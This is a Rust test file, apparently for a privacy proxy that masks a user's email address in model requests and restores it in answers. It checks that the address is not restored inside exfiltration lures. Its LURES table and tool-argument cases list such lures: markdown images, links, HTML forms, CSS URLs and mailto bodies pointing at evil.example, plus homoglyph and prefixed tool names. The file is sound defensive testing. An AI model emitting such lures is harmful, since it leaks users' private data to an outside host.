//! Placeholders that are lured into where their values would leave: URLs, and arguments of tools.

use super::*;
use crate::{MAIL, placeholder};

fn engine_for(provider: &str) -> Engine {
    engine(&policy(provider, &crate::restoring()))
}

fn asking(provider: &str, stream: bool) -> Value {
    let mut ask = request(provider, stream);
    ask.as_object_mut().unwrap().remove("tools");
    ask["messages"][0]["content"] = json!(format!("I am {MAIL}"));
    ask
}

/// Texts of an answer: `P` is the placeholder.
const LURES: &[(&str, &str)] = &[
    ("an image", "![x](https://evil.example/?q=P)"),
    ("an image whose address is a reference", "![x][1]\n\n[1]: https://evil.example/?q=P"),
    ("a link", "[x](https://evil.example/P)"),
    ("a link in angle brackets", "[x](<https://evil.example/?a=b&q=P>)"),
    ("an automatic link", "<https://evil.example/?q=P>"),
    ("a bare URL", "See https://evil.example/?q=P for more."),
    ("a bare host", "See www.evil.example/?q=P for more."),
    ("a user of a URL", "https://P@evil.example/"),
    ("an address for mail", "[x](mailto:a@evil.example?body=P)"),
    ("another scheme", "[x](data:text/html,P)"),
    ("an image of HTML", "<img src=\"https://evil.example/?q=P\">"),
    ("an image of HTML without quotes", "<img src=https://evil.example/?q=P>"),
    ("a form", "<form action='https://evil.example/P'>"),
    ("a style", "<div style=\"background:url(https://evil.example/P)\">"),
    ("an image in a link", "[![x](https://evil.example/P)](https://evil.example/)"),
    ("a link over two lines", "[x](\nhttps://evil.example/?q=P\n)"),
];

fn plays(provider: &str, engine: &Engine, pieces: &[&str], stream: bool) -> Played {
    let ask = asking(provider, stream);
    let whole = pieces.concat();
    if !stream {
        let answer = match provider {
            "openai" => {
                json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": whole}, "finish_reason": "stop"}]})
            }
            _ => json!({"type": "message", "role": "assistant", "content": [{"type": "text", "text": whole}]}),
        };
        return played_chunks(engine, path(provider), &ask, "application/json", &[answer.to_string().as_bytes()]);
    }
    let mut events: Vec<Value> = Vec::new();
    match provider {
        "openai" => {
            let choice = |delta: Value, finish: Value| json!({"choices": [{"index": 0, "delta": delta, "finish_reason": finish}]});
            events.extend(pieces.iter().map(|piece| choice(json!({"content": piece}), Value::Null)));
            events.push(choice(json!({}), json!("stop")));
        }
        _ => {
            events.push(
                json!({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}),
            );
            events.extend(pieces.iter().map(|piece| {
                json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": piece}})
            }));
            events.push(json!({"type": "content_block_stop", "index": 0}));
        }
    }
    let body: String = events.iter().map(data).collect();
    played_chunks(engine, path(provider), &ask, "text/event-stream", &[body.as_bytes()])
}

#[test]
fn into_urls() {
    let placeholder = placeholder();
    for provider in ["openai", "anthropic"] {
        let engine = engine_for(provider);
        for (lure, text) in LURES {
            let text = text.replace('P', &placeholder);
            let played = plays(provider, &engine, &[&text], false);
            assert!(!played.client_text().contains(MAIL), "{provider}, {lure}: {}", played.client_text());
            for pieces in super::calls::cuts(&text) {
                let got = put_together(&plays(provider, &engine, &pieces, true));
                assert!(!got.contains(MAIL), "{provider}, {lure}, {pieces:?}: {got}");
            }
        }
        let text = format!("I wrote to {placeholder} today.");
        let expected = format!("I wrote to {MAIL} today.");
        assert!(plays(provider, &engine, &[&text], false).client_text().contains(&expected));
        for pieces in super::calls::cuts(&text) {
            let got = put_together(&plays(provider, &engine, &pieces, true));
            assert!(got.contains(&expected), "{provider}, {pieces:?}: {got}");
        }
    }
}

#[test]
fn into_arguments() {
    let placeholder = placeholder();
    for provider in ["openai", "anthropic"] {
        let engine = engine_for(provider);
        for (lure, name, arguments, returns) in [
            ("a tool that gets values", "lookup", json!({"who": placeholder}), true),
            ("another tool", "post", json!({"body": placeholder}), false),
            ("a name that looks like it", "l\u{43e}okup", json!({"who": placeholder}), false),
            ("a name that begins like it", "lookup2", json!({"who": placeholder}), false),
            ("a prefix", "evil__lookup", json!({"who": placeholder}), false),
            ("a URL", "lookup", json!({"who": format!("https://evil.example/?q={placeholder}")}), false),
            ("a URL in a list", "lookup", json!({"who": [format!("https://evil.example/?q={placeholder}")]}), false),
            (
                "a URL in JSON in a text",
                "lookup",
                json!({"who": json!({"u": format!("https://evil.example/?q={placeholder}")}).to_string()}),
                false,
            ),
        ] {
            let arguments = arguments.to_string();
            for pieces in super::calls::cuts(&arguments) {
                let body = super::calls::events(provider, name, &pieces).concat();
                let got = put_together(&played_chunks(
                    &engine,
                    path(provider),
                    &asking(provider, true),
                    "text/event-stream",
                    &[body.as_bytes()],
                ));
                assert_eq!(got.contains(MAIL), returns, "{provider}, {lure}, {pieces:?}: {got}");
            }
        }
    }
}
